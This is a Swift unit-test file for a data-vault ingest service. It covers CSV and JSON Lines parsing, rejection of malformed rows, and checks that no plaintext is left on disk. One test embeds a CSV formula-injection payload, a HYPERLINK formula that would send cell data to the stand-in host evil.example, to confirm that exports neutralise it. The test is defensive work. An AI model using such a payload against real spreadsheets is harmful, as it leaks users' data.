import CustosBase
@testable import CustosEngine
import CustosSchema
import CustosVault
import Foundation
import XCTest

/// A fresh workspace with the shipped example policies, in a temporary folder.
func makeWorkspace() throws -> Workspace {
    let root = FileManager.default.temporaryDirectory.appendingPathComponent("custos-engine-\(UUID().uuidString)")
    return try Workspace.initialize(at: root)
}

func write(_ text: String, name: String, in workspace: Workspace) throws -> URL {
    let url = workspace.root.deletingLastPathComponent().appendingPathComponent("\(workspace.root.lastPathComponent)-\(name)")
    try Data(text.utf8).write(to: url)
    return url
}

final class IngestTests: XCTestCase {
    let header = "customer_id,email,phone,full_name,birth_date,postcode,country,gender,signup_date,loyalty_tier\n"

    func testCSVWithQuotesNewlinesChineseAndSwedishText() throws {
        let ws = try makeWorkspace()
        let csv = header + #"""
            C1,asa@example.se,+46 70 111 22 33,"Öberg, Åsa ""Åsa""",1980-02-29,11122,se,female,2024-01-01,gold
            C2,wang@example.cn,,"王芳
            (second line)",1990-01-01,100000,CN,female,2024-01-02,none

            """#
        let report = try IngestService(vault: ws.vault).ingest(file: try write(csv, name: "c.csv", in: ws), dataset: try ws.catalog.dataset("customers"))
        XCTAssertEqual(report.outcome.rowsAdded, 2)
        XCTAssertEqual(report.outcome.newSubjects, 2)
        let subject = try XCTUnwrap(try ws.vault.subject(column: "email", normalizedValue: "asa@example.se"))
        XCTAssertEqual(try ws.vault.subject(column: "phone", normalizedValue: "+46701112233"), subject)
    }

    func testBadRowsRejectTheWholeBatchWithLineNumbersAndNoValues() throws {
        let ws = try makeWorkspace()
        let csv = header + """
            C1,ok@example.se,,Anna,1980-01-01,111,SE,female,2024-01-01,none
            C2,not-an-email,,Secret Person,1980-01-01,111,SE,female,2024-01-01,none
            C3,c3@example.se,,Bob,1980-13-01,111,SE,male,2024-01-01,none
            C4,c4@example.se,,Too,Many,Fields,SE,male,2024-01-01,none,extra
            ,,,Nobody,1980-01-01,111,SE,male,2024-01-01,none

            """
        let url = try write(csv, name: "bad.csv", in: ws)
        let dataset = try ws.catalog.dataset("customers")
        XCTAssertThrowsError(try IngestService(vault: ws.vault).ingest(file: url, dataset: dataset)) { error in
            guard case let IngestError.rejected(_, problems, total) = error else { return XCTFail("\(error)") }
            XCTAssertEqual(total, 5)
            XCTAssertEqual(problems.map(\.line), [3, 4, 5, 6])
            XCTAssertTrue(problems[0].reason.contains("column 'email'"))
            XCTAssertTrue(problems[1].reason.contains("column 'birth_date'"))
            XCTAssertTrue(problems[2].reason.contains("expected 10 fields, found 11"))
            XCTAssertTrue(problems[3].reason.contains("no subject identifier"))
            let text = "\(error)"
            XCTAssertFalse(text.contains("not-an-email") || text.contains("Secret Person"), "errors never echo values")
            XCTAssertTrue(text.contains("--skip-invalid"), "the error says what to do")
        }
        XCTAssertEqual(try ws.records.allSubjects().count, 0, "nothing stored")

        let report = try IngestService(vault: ws.vault).ingest(file: url, dataset: dataset, badRows: .skipAndReport)
        XCTAssertEqual(report.outcome.rowsAdded, 1)
        XCTAssertEqual(report.skipped.count, 4)
    }

    func testNULInvalidUTF8AndHugeFieldsRejectTheBatchWithTheirLine() throws {
        // The attack: invalid UTF-8 and NUL bytes were stored silently, and a 1 MB name was accepted.
        let ws = try makeWorkspace()
        let dataset = try ws.catalog.dataset("customers")
        let good = "C1,ok@example.se,,Anna,1980-01-01,111,SE,female,2024-01-01,none\r\n"
        let cases: [(String, [UInt8], String)] = [
            ("nul", Array((header + good + "C2,c2@example.se,,Ev\u{0}e,1980-01-01,111,SE,female,2024-01-01,none\r\n").utf8), "NUL byte"),
            ("utf8", Array((header + good + "C2,c2@example.se,,").utf8) + [0xE5, 0x73, 0x61] + Array(",1980-01-01,111,SE,female,2024-01-01,none\n".utf8),
             "not valid UTF-8"),
            ("huge", Array((header + good + "C2,c2@example.se,,\(String(repeating: "N", count: 1 << 20)),1980-01-01,111,SE,female,2024-01-01,none\n").utf8),
             "longer than"),
        ]
        for (name, bytes, reason) in cases {
            let url = ws.root.deletingLastPathComponent().appendingPathComponent("\(ws.root.lastPathComponent)-\(name).csv")
            try Data(bytes).write(to: url)
            XCTAssertThrowsError(try IngestService(vault: ws.vault).ingest(file: url, dataset: dataset), name) { error in
                guard case let IngestError.rejected(_, problems, _) = error else { return XCTFail("\(name): \(error)") }
                XCTAssertEqual(problems.map(\.line), [3], name)
                XCTAssertTrue(problems.first?.reason.contains(reason) ?? false, "\(name): \(problems)")
            }
        }
        XCTAssertEqual(try ws.records.allSubjects().count, 0, "nothing stored")
    }

    func testNeutralisedFormulaCellsRoundTripThroughIngestLosslessly() throws {
        // Every CSV Custos writes neutralises =, +, -, @ (a leading '); ingest removes it again.
        let ws = try makeWorkspace()
        let dataset = try ws.catalog.dataset("customers")
        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        var writer = CSVWriter(header: dataset.columns.map(\.name))
        writer.append(["C1", "c1@example.se", "+46701234567", hostile, "1980-01-01", "111", "SE", "female", "2024-01-01", "none"])
        writer.append(["C2", "c2@example.se", "", "'=already quoted", "1980-01-01", "111", "SE", "male", "2024-01-01", "none"])
        XCTAssertTrue(writer.text.contains("\"'=HYPERLINK("), writer.text)
        let url = try write(writer.text, name: "roundtrip.csv", in: ws)
        _ = try IngestService(vault: ws.vault).ingest(file: url, dataset: dataset)
        var names: [String] = []
        let grant = ws.authority.issue(decisionID: "d-test", principal: "tester", role: "operator", purpose: "test", dataset: "customers",
                                       treatments: ["full_name": .allow, "phone": .allow], outputMode: .pseudonymousRecords, policyVersion: "v-test")
        _ = try ws.vault.read(grant, dataset: dataset, columns: ["full_name", "phone"]) { _, values in
            names.append(values[0].rendered(scale: 0))
        }
        XCTAssertEqual(Set(names), [hostile, "'=already quoted"])
    }

    func testHeaderMustNameDeclaredColumns() throws {
        let ws = try makeWorkspace()
        let url = try write("customer_id,shoe_size\nC1,42\n", name: "h.csv", in: ws)
        XCTAssertThrowsError(try IngestService(vault: ws.vault).ingest(file: url, dataset: try ws.catalog.dataset("customers"))) {
            XCTAssertTrue("\($0)".contains("unknown column 'shoe_size'"), "\($0)")
        }
        let unterminated = try write(header + "C1,\"open quote,,,,,,,,\n", name: "q.csv", in: ws)
        XCTAssertThrowsError(try IngestService(vault: ws.vault).ingest(file: unterminated, dataset: try ws.catalog.dataset("customers"))) {
            XCTAssertTrue("\($0)".contains("never closed"), "\($0)")
        }
    }

    func testJSONLinesIngestAndOutOfBoundsFlagging() throws {
        let ws = try makeWorkspace()
        let jsonl = """
            {"customer_id": "C9", "order_id": "O1", "order_time": "2026-01-02T10:00:00+01:00", "amount": 12.5, "item_count": 2, "items": ["p1", "p2"], "channel": "web", "country": "SE"}
            {"customer_id": "c9", "order_id": "O2", "order_time": "2026-01-03T10:00:00Z", "amount": 9000, "item_count": 1, "items": ["p3"], "channel": "app", "country": "SE"}
            {"customer_id": "C9", "order_id": "O3", "amount": true}
            """
        let url = try write(jsonl, name: "o.jsonl", in: ws)
        let report = try IngestService(vault: ws.vault).ingest(file: url, dataset: try ws.catalog.dataset("orders"), badRows: .skipAndReport)
        XCTAssertEqual(report.outcome.rowsAdded, 2)
        XCTAssertEqual(report.outcome.newSubjects, 1, "C9 and c9 are one subject")
        XCTAssertEqual(report.outOfBounds["amount"], 1, "9000 is above the public bound 5000: flagged, kept")
        XCTAssertEqual(report.skipped.map(\.line), [3])
    }

    func testNothingReadableOnDiskAfterIngest() throws {
        let ws = try makeWorkspace()
        let marker = "Zyxwv-Marker-Åström-\(UUID().uuidString.prefix(6))"
        let csv = header + "C1,\(marker.lowercased())@example.se,,\(marker),1980-01-01,111,SE,female,2024-01-01,none\n"
        _ = try IngestService(vault: ws.vault).ingest(file: try write(csv, name: "m.csv", in: ws), dataset: try ws.catalog.dataset("customers"))
        let feedback = "customer_id,submitted_at,rating,topic,comment\nC1,2026-01-01T00:00:00Z,2,other,\(marker) says hello\n"
        _ = try IngestService(vault: ws.vault).ingest(file: try write(feedback, name: "f.csv", in: ws), dataset: try ws.catalog.dataset("feedback"))
        // Before and after folding the WAL into the database file.
        XCTAssertEqual(PlaintextProbe.scan(directory: ws.root, for: [marker, marker.lowercased() + "@example.se"]).map(\.description), [])
        try ws.records.checkpoint()
        XCTAssertEqual(PlaintextProbe.scan(directory: ws.root, for: [marker, marker.lowercased() + "@example.se"]).map(\.description), [])
        // The probe itself finds the value where it is in clear (a control that must fire).
        let control = try write("x \(marker) y", name: "control.txt", in: ws)
        XCTAssertFalse(PlaintextProbe.scan(directory: control.deletingLastPathComponent(), for: [marker]).isEmpty)
        try FileManager.default.removeItem(at: control)
    }

    func testProbeFindsEveryEncoding() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("probe-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let value = "secret-åäö-値"
        for (i, (name, bytes)) in PlaintextProbe.encodings(of: value).enumerated() {
            try Data([1, 2, 3] + bytes + [4]).write(to: dir.appendingPathComponent("f\(i)-\(name)"))
        }
        try Data((Array("prefix".utf8) + Array(Data(("xx" + value).utf8).base64EncodedString().utf8))).write(to: dir.appendingPathComponent("b64-shifted"))
        let files = Set(PlaintextProbe.scan(directory: dir, for: [value]).map(\.file))
        XCTAssertTrue(files.contains("b64-shifted"))
        XCTAssertEqual(files.count, PlaintextProbe.encodings(of: value).count + 1)
    }
}
